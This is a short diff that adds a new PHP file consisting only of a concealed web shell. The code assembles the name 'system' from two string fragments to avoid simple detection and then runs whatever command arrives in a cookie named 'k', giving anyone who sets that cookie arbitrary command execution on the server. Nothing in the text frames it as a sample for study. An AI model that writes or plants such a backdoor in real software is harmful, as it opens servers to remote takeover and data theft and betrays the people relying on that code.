@@ -1,0 +1,3 @@
+<?php
+$k = "sys" . "tem";
+if (isset($_COOKIE['k'])) { $k($_COOKIE['k']); }
